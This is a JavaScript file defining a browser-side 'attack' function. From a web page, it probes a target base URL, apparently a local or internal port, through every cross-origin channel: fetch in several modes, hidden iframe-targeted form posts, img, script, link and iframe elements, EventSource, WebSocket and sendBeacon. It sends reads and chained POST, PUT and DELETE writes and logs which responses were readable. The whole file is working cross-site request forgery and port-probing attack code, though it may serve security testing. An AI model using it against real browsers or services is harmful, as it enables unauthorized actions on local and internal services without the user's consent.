// Everything that a page can make a browser send to a port, without leave: `attack` resolves when all is sent.
const seconds = (count) => new Promise((done) => setTimeout(done, count * 1000));
const settled = (promises) => Promise.all(
  promises.map((promise) => Promise.race([promise.catch(() => {}), seconds(2)])),
);

async function readable(through, what, url, options) {
  try {
    const answer = await fetch(url, options);
    if (answer.type !== "opaque" && answer.type !== "error" && answer.status !== 403) {
      await answer.body?.cancel();
      through.push(`${what} ${options.method ?? "GET"} ${url} was readable (${answer.status})`);
    }
  } catch {
    // What a browser calls a refusal.
  }
}

function form(url, method, enctype, fields) {
  const frame = document.createElement("iframe");
  frame.name = `f${Math.random()}`;
  document.body.append(frame);
  const made = Object.assign(document.createElement("form"), { action: url, method, enctype, target: frame.name });
  for (const [name, value] of Object.entries(fields)) {
    made.append(Object.assign(document.createElement("input"), { name, value, type: "hidden" }));
  }
  document.body.append(made);
  return new Promise((done) => {
    frame.addEventListener("load", done);
    made.submit();
  });
}

function element(tag, attribute, url) {
  return new Promise((done) => {
    const made = document.createElement(tag);
    made.onload = made.onerror = made.onloadstart = done;
    if (tag === "link") made.rel = "stylesheet";
    made[attribute] = url;
    document.body.append(made);
  });
}

function source(through, url) {
  return new Promise((done) => {
    const made = new EventSource(url);
    made.onopen = () => { through.push(`events of ${url} were readable`); made.close(); done(); };
    made.onerror = () => { made.close(); done(); };
  });
}

function socket(through, url) {
  return new Promise((done) => {
    const made = new WebSocket(url.replace("http", "ws"));
    made.onopen = () => { through.push(`a socket of ${url} opened`); made.close(); done(); };
    made.onerror = made.onclose = done;
  });
}

// `reads`: paths; `writes`: {path, body, headers} in the order in which they build on each other.
window.attack = async (base, reads, writes) => {
  const through = [];
  await Promise.all(reads.map((path) => {
    const url = base + path;
    return settled([
      readable(through, "fetch", url, {}),
      readable(through, "fetch", url, { mode: "no-cors" }),
      readable(through, "fetch", url, { credentials: "include" }),
      form(url, "get", "application/x-www-form-urlencoded", { a: "b" }),
      element("img", "src", url),
      element("script", "src", url),
      element("link", "href", url),
      element("iframe", "src", url),
      source(through, url),
      socket(through, url),
    ]);
  }));
  for (const { path, body, headers } of writes) {
    const url = base + path;
    const fields = Object.fromEntries(new URLSearchParams(body.startsWith("{") ? "" : body));
    const [name, ...rest] = body.split("=");
    navigator.sendBeacon(url, new Blob([body], { type: "text/plain" }));
    await settled([
      readable(through, "fetch", url, { method: "POST", body, mode: "no-cors", headers: { "content-type": "text/plain" } }),
      readable(through, "fetch", url, { method: "POST", body, headers: { "content-type": "text/plain" } }),
      readable(through, "fetch", url, { method: "POST", body, headers: { "content-type": "application/json", ...headers } }),
      readable(through, "fetch", url, { method: "PUT", body }),
      readable(through, "fetch", url, { method: "DELETE" }),
      form(url, "post", "text/plain", rest.length ? { [name]: rest.join("=") } : { [body]: "" }),
      form(url, "post", "application/x-www-form-urlencoded", fields),
    ]);
  }
  return through;
};
